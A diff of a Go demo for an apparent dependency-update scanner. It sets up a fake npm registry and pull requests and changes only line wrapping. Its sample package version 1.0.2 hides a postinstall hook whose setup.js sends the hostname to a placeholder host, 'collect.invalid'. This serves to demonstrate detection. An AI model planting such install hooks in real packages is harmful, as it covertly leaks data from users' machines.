@@ -45,9 +45,11 @@ const demoScope = "@lockwarden-demo"
 var demoPackages = map[string]map[string]string{
 	demoScope + "/colors@1.0.1": {"index.js": "module.exports = text => '\\u001b[31m' + text + '\\u001b[0m'\n"},
 	demoScope + "/colors@1.0.2": {
-		"index.js":     "module.exports = text => '\\u001b[31m' + text + '\\u001b[0m'\n",
-		"setup.js":     "const os = require('os')\nconst https = require('https')\n// The name .invalid is reserved: it leads nowhere (RFC 2606).\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n",
-		"package.json": `{"name":"` + demoScope + `/colors","version":"1.0.2","license":"MIT","main":"index.js","scripts":{"postinstall":"node setup.js"}}`,
+		"index.js": "module.exports = text => '\\u001b[31m' + text + '\\u001b[0m'\n",
+		"setup.js": "const os = require('os')\nconst https = require('https')\n// The name .invalid is reserved: it leads nowhere (RFC " +
+			"2606).\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n",
+		"package.json": `{"name":"` + demoScope +
+			`/colors","version":"1.0.2","license":"MIT","main":"index.js","scripts":{"postinstall":"node setup.js"}}`,
 	},
 }
 
@@ -117,8 +119,10 @@ func demo(c *cobra.Command, page net.Listener, o analyzer.Options, log *slog.Log
 	ended := make(chan error, 1)
 	ready, overviews := make(chan string, 1), make(chan string, 1)
 	go func() {
-		ended <- app.Serve(ctx, app.Settings{AppID: g.AppID, PrivateKey: g.PrivateKey, WebhookSecret: g.Secret, APIURL: g.URL(), Database: filepath.Join(dir, "demo.db"),
-			Address: own, PublicURL: "http://" + own, Log: log, Listening: func(a string) { ready <- a }, Overview: func(a string) { overviews <- a }}, scanner)
+		ended <- app.Serve(ctx, app.Settings{AppID: g.AppID, PrivateKey: g.PrivateKey, WebhookSecret: g.Secret, APIURL: g.URL(),
+			Database: filepath.Join(dir, "demo.db"),
+			Address:  own, PublicURL: "http://" + own, Log: log, Listening: func(a string) { ready <- a },
+			Overview: func(a string) { overviews <- a }}, scanner)
 	}()
 	select {
 	case a := <-ready:
@@ -149,7 +153,9 @@ func demoPulls(repo *githubtest.Repository) {
 		name := demoScope + "/colors"
 		data := demoTarball(name + "@" + version)
 		manifest := fmt.Sprintf("{\n  \"name\": \"tools\",\n  \"dependencies\": {\n    %q: %q\n  }\n}\n", name, version)
-		lock := fmt.Sprintf("{\n  \"name\": \"tools\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n  \"packages\": {\n    \"\": {\n      \"name\": \"tools\",\n      \"dependencies\": {\n        %q: %q\n      }\n    },\n    \"node_modules/%s\": {\n      \"version\": %q,\n      \"integrity\": %q,\n      \"license\": \"MIT\"\n    }\n  }\n}\n",
+		lock := fmt.Sprintf("{\n  \"name\": \"tools\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n  \"packages\": {\n    \"\": {\n  "+
+			"    \"name\": \"tools\",\n      \"dependencies\": {\n        %q: %q\n      }\n    },\n    \"node_modules/%s\": {\n      "+
+			"\"version\": %q,\n      \"integrity\": %q,\n      \"license\": \"MIT\"\n    }\n  }\n}\n",
 			name, version, name, version, demoIntegrity(data))
 		return map[string]string{"tools/package.json": manifest, "tools/package-lock.json": lock}
 	}
@@ -198,7 +204,8 @@ func demoRegistry(host string) http.Handler {
 		data := demoTarball(id)
 		version := id[strings.LastIndexByte(id, '@')+1:]
 		address := fmt.Sprintf("/%s/colors/-/colors-%s.tgz", demoScope, version)
-		versions[version] = map[string]any{"name": demoScope + "/colors", "version": version, "dist": map[string]any{"tarball": "http://" + host + address, "integrity": demoIntegrity(data)}}
+		versions[version] = map[string]any{"name": demoScope + "/colors", "version": version, "dist": map[string]any{"tarball": "http://" +
+			host + address, "integrity": demoIntegrity(data)}}
 		mux.HandleFunc("GET "+address, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(data) })
 	}
 	mux.HandleFunc("GET /", func(w http.ResponseWriter, r *http.Request) {
@@ -207,7 +214,8 @@ func demoRegistry(host string) http.Handler {
 			return
 		}
 		w.Header().Set("Content-Type", "application/json")
-		_ = json.NewEncoder(w).Encode(map[string]any{"name": demoScope + "/colors", "dist-tags": map[string]string{"latest": "1.0.2"}, "versions": versions})
+		_ = json.NewEncoder(w).Encode(map[string]any{"name": demoScope + "/colors", "dist-tags": map[string]string{"latest": "1.0.2"},
+			"versions": versions})
 	})
 	return mux
 }
